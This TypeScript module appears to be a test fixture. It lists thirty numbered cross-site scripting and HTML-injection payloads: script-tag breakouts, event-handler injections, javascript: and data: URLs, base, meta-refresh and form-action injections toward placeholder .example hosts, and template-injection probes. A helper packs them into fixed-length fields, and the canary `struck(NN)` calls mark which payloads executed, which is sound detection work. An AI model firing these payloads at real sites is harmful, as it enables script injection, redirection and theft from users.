/**
 * Thirty ways of getting markup or script into a page, each with a name of its own, so that what got through is told.
 * `NN` is put in place of its number: whatever runs calls `struck(NN)`, whatever is made carries `struckNN`.
 */
const shapes = [
  '<script>struck(NN)</script>',
  '"><script>struck(NN)</script>',
  "'><script>struck(NN)</script>",
  '</script><script>struck(NN)</script>',
  '</title><script>struck(NN)</script>',
  '</textarea><script>struck(NN)</script>',
  '<img src=x onerror=struck(NN)>',
  '"><img src=x onerror="struck(NN)">',
  '" onfocus="struck(NN)" autofocus="',
  "' onmouseover='struck(NN)' x='",
  '<svg onload=struck(NN)>',
  '<svg><script>struck(NN)</script></svg>',
  '<math><mtext><img src=x onerror=struck(NN)>',
  '<iframe srcdoc="<script>parent.struck(NN)</script>">',
  '<a href="javascript:struck(NN)">struckNN</a>',
  '[struckNN](javascript:struck(NN))',
  'javascript:struck(NN)',
  'data:text/html,<script>struck(NN)</script>',
  '<details open ontoggle=struck(NN)>',
  '<style>@import "//struckNN.example";</style>',
  '<link rel=stylesheet href=//struckNN.example>',
  '<base href="//struckNN.example/">',
  '<meta http-equiv=refresh content="0;url=//struckNN.example">',
  '<form action=//struckNN.example><button>',
  '<!--><img src=x onerror=struck(NN)>-->',
  '<![CDATA[<script>struck(NN)</script>]]>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: written for engines that would fill it in
  '{{struckNN}}${struck(NN)}#{7*7}',
  '&lt;script&gt;struck(NN)&lt;/script&gt;&#60;b&#62;',
  '\u202e<b>struckNN</b>\u2066',
  '＜script＞struck(NN)＜/script＞',
] as const;

export const payloads: readonly string[] = shapes.map((shape, number) => shape.replaceAll('NN', String(number)));

/** The payloads in as few pieces as fit into fields of a length, in characters. */
export function packed(most: number): string[] {
  const packs: string[] = [];
  let pack = '';
  for (const payload of payloads) {
    if (pack !== '' && pack.length + payload.length > most) {
      packs.push(pack);
      pack = '';
    }
    pack += payload;
  }
  return [...packs, pack];
}
